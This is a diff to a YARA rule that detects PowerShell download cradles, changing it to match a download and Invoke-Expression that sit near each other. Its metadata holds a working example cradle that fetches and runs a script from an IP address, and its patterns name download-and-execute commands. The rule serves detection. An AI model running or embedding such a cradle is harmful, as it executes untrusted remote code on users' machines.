@@ -1,21 +1,17 @@
 rule powershell_download_cradle : behavior
 {
     meta:
-        description = "PowerShell that downloads code and runs it in one go (download cradle)"
+        description = "PowerShell that downloads code and runs it in one go (download cradle): the download and Invoke-Expression within a few lines of each other"
         severity = "high"
         kind = "behavior"
         example_match = "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\""
         example_benign = "Invoke-WebRequest -Uri https://example.org/data.json -OutFile data.json"
     strings:
-        $dl1 = "DownloadString" ascii wide nocase
-        $dl2 = "DownloadFile" ascii wide nocase
-        $dl3 = "Invoke-WebRequest" ascii wide nocase
-        $dl4 = "Net.WebClient" ascii wide nocase
-        $dl5 = "Start-BitsTransfer" ascii wide nocase
-        $dl6 = /\biwr\s+(-uri\s+)?['"]?https?:/ ascii wide nocase
-        $ex1 = "Invoke-Expression" ascii wide nocase
-        $ex2 = /\biex\s*[(\s]/ ascii wide nocase
-        $ex3 = /\|\s*iex\b/ ascii wide nocase
+        // One command or a few lines, in either order. The words alone, megabytes apart in a
+        // program, are no cradle: every cobra-based Go CLI embeds a PowerShell completion
+        // script with Invoke-Expression, and restic also links a DownloadFileByName method.
+        $download_then_run = /(DownloadString|DownloadFile|Invoke-WebRequest|Net\.WebClient|Start-BitsTransfer|\biwr\s+(-uri\s+)?['"]?https?:).{0,512}(Invoke-Expression|\biex\s*[(\s]|\|\s*iex\b)/is ascii wide
+        $run_then_download = /(Invoke-Expression|\biex\s*[(\s]|\|\s*iex\b).{0,512}(DownloadString|DownloadFile|Invoke-WebRequest|Net\.WebClient|Start-BitsTransfer|\biwr\s+(-uri\s+)?['"]?https?:)/is ascii wide
     condition:
-        any of ($dl*) and any of ($ex*)
+        any of them
 }
